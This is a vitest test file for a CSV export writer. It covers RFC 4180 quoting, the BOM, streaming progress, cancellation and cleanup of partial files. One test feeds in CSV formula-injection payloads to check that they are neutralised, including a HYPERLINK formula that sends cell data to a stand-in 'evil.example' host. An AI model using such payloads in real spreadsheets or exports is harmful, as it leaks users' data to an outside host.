import { readdirSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CellValue } from '@shared/api';
import { AppError } from '@shared/errors';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type ExportColumn, writeCsv } from '../../../src/main/export/csv-writer';

/** A strict RFC 4180 reader: CRLF records, quoted fields, doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
      if (i === text.length) return records;
      continue;
    }
    throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text[i] ?? 'EOF')}`);
  }
}

const text = (name: string): ExportColumn => ({ name, type: 'text' });
let dir: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'rowsmith-csv-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function readCsv(path: string): Promise<{ bytes: Buffer; records: string[][] }> {
  const bytes = await readFile(path);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return { bytes, records: parseCsv(bytes.subarray(3).toString('utf8')) };
}

describe('writeCsv', () => {
  it('writes a BOM, a header, CRLF line ends and RFC 4180 quoting, byte for byte', async () => {
    const path = join(dir, 'out.csv');
    const columns: ExportColumn[] = [
      text('Name'),
      { name: 'Employees', type: 'number' },
      { name: 'Public', type: 'boolean' },
    ];
    const rows: CellValue[][] = [
      ['Acme, Inc.', 120, true],
      ['Say "hi"', -5, false],
      ['two\nlines', 1.5, null],
      [' padded ', null, null],
      ['Zoë Ltd', 0, true],
      ['cr\ronly', 1e21, false],
    ];
    const result = await writeCsv(path, columns, rows, { neutraliseFormulas: false });
    expect(result).toEqual({ rows: 6 });
    const expected =
      '\uFEFFName,Employees,Public\r\n' +
      '"Acme, Inc.",120,true\r\n' +
      '"Say ""hi""",-5,false\r\n' +
      '"two\nlines",1.5,\r\n' +
      '" padded ",,\r\n' +
      'Zoë Ltd,0,true\r\n' +
      '"cr\ronly",1e+21,false\r\n';
    expect((await readFile(path)).equals(Buffer.from(expected, 'utf8'))).toBe(true);
  });

  it('round-trips any text through a strict RFC 4180 reader', async () => {
    const path = join(dir, 'prop.csv');
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.array(
            fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.constantFrom('"', ',', '\r\n', ' ')),
            { minLength: 2, maxLength: 2 },
          ),
          {
            maxLength: 20,
          },
        ),
        async (rows) => {
          await writeCsv(path, [text('a'), text('b')], rows, { neutraliseFormulas: false });
          const { records } = await readCsv(path);
          expect(records).toEqual([['a', 'b'], ...rows]);
        },
      ),
      { numRuns: 60 },
    );
  });

  it('neutralises formula triggers in text cells and column names, but not numbers or phone numbers', async () => {
    const path = join(dir, 'guarded.csv');
    const columns: ExportColumn[] = [text('=HEADER'), { name: 'Amount', type: 'number' }];
    const rows: CellValue[][] = [
      ['=HYPERLINK("http://evil.example/?"&A1)', -5],
      ['+1 415 555 0100', 3],
      ['-2+3', -0.5],
      ['@SUM(A1:A2)', 0],
      ['\tcmd', 1],
      ['\rcmd', 2],
      ['safe = text', 4],
      ['-5', 5],
    ];
    await writeCsv(path, columns, rows, { neutraliseFormulas: true });
    const { records } = await readCsv(path);
    expect(records).toEqual([
      ["'=HEADER", 'Amount'],
      ['\'=HYPERLINK("http://evil.example/?"&A1)', '-5'],
      ['+1 415 555 0100', '3'],
      ["'-2+3", '-0.5'],
      ["'@SUM(A1:A2)", '0'],
      ["'\tcmd", '1'],
      ["'\rcmd", '2'],
      ['safe = text', '4'],
      ['-5', '5'],
    ]);
  });

  it('writes values exactly as stored when neutralisation is off', async () => {
    const path = join(dir, 'raw.csv');
    await writeCsv(path, [text('=H')], [['=1+2'], ['@x']], { neutraliseFormulas: false });
    expect((await readCsv(path)).records).toEqual([['=H'], ['=1+2'], ['@x']]);
  });

  it('keeps an empty value in a one-column export as a record, not a blank line', async () => {
    const path = join(dir, 'one.csv');
    await writeCsv(path, [text('email')], [['a@x.io'], [null], ['']], { neutraliseFormulas: false });
    expect((await readCsv(path)).records).toEqual([['email'], ['a@x.io'], [''], ['']]);
  });

  it('on cancel, stops reading rows, deletes the partial file and throws AppError(cancelled)', async () => {
    const path = join(dir, 'cancel.csv');
    const controller = new AbortController();
    let produced = 0;
    function* rows(): Generator<CellValue[]> {
      for (let i = 0; i < 1_000_000; i++) {
        produced++;
        if (i === 50_000) controller.abort();
        yield [`row ${i}`, i];
      }
    }
    const error = await writeCsv(path, [text('a'), { name: 'n', type: 'number' }], rows(), {
      neutraliseFormulas: true,
      signal: controller.signal,
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('cancelled');
    expect(produced).toBeLessThan(50_010);
    expect(await readdir(dir)).toEqual([]);
  });

  it('refuses to start when already cancelled, and leaves an existing file untouched', async () => {
    const path = join(dir, 'existing.csv');
    await writeFile(path, 'precious');
    const controller = new AbortController();
    controller.abort();
    await expect(
      writeCsv(path, [text('a')], [['x']], { neutraliseFormulas: true, signal: controller.signal }),
    ).rejects.toMatchObject({
      code: 'cancelled',
    });
    expect(await readFile(path, 'utf8')).toBe('precious');
  });

  it('a failing row source deletes the partial file and keeps the original error', async () => {
    const path = join(dir, 'fail.csv');
    function* rows(): Generator<CellValue[]> {
      for (let i = 0; i < 100_000; i++) yield [`value ${i}`];
      throw new Error('disk image unreadable');
    }
    await expect(writeCsv(path, [text('a')], rows(), { neutraliseFormulas: true })).rejects.toThrow(
      'disk image unreadable',
    );
    expect(await readdir(dir)).toEqual([]);
  });

  it('a failure at the final rename keeps the error and deletes the temporary file', async () => {
    const path = join(dir, 'taken');
    await mkdir(join(path, 'child'), { recursive: true });
    await expect(writeCsv(path, [text('a')], [['x']], { neutraliseFormulas: true })).rejects.toThrow();
    expect(await readdir(dir)).toEqual(['taken']);
  });

  it('replaces an existing file only once the export is complete', async () => {
    const path = join(dir, 'replace.csv');
    await writeFile(path, 'old');
    await writeCsv(path, [text('a')], [['new']], { neutraliseFormulas: true });
    expect(await readFile(path, 'utf8')).toBe('\uFEFFa\r\nnew\r\n');
    expect(await readdir(dir)).toEqual(['replace.csv']);
  });

  it('streams 200k rows from a generator to disk as it goes, reporting progress', async () => {
    const path = join(dir, 'big.csv');
    const progress: number[] = [];
    let partialBytesMidway = 0;
    const total = 200_000;
    function* rows(): Generator<CellValue[]> {
      for (let i = 0; i < total; i++) {
        if (i === 150_000) {
          const partial = readdirSync(dir).find((name) => name.endsWith('.partial'));
          partialBytesMidway = partial ? statSync(join(dir, partial)).size : 0;
        }
        yield [i, `company ${i}`, i % 2 === 0, `https://example.com/${i}`, null];
      }
    }
    const columns: ExportColumn[] = [
      { name: 'id', type: 'number' },
      text('name'),
      { name: 'flag', type: 'boolean' },
      { name: 'site', type: 'url' },
      text('empty'),
    ];
    const result = await writeCsv(path, columns, rows(), {
      neutraliseFormulas: true,
      onProgress: (n) => progress.push(n),
    });
    expect(result.rows).toBe(total);
    // At row 150k a large part of the file was already on disk: rows were not buffered.
    expect(partialBytesMidway).toBeGreaterThan(1_000_000);
    expect(progress.at(-1)).toBe(total);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
    const { records } = await readCsv(path);
    expect(records).toHaveLength(total + 1);
    expect(records[total]).toEqual([
      String(total - 1),
      `company ${total - 1}`,
      'false',
      `https://example.com/${total - 1}`,
      '',
    ]);
  });
});
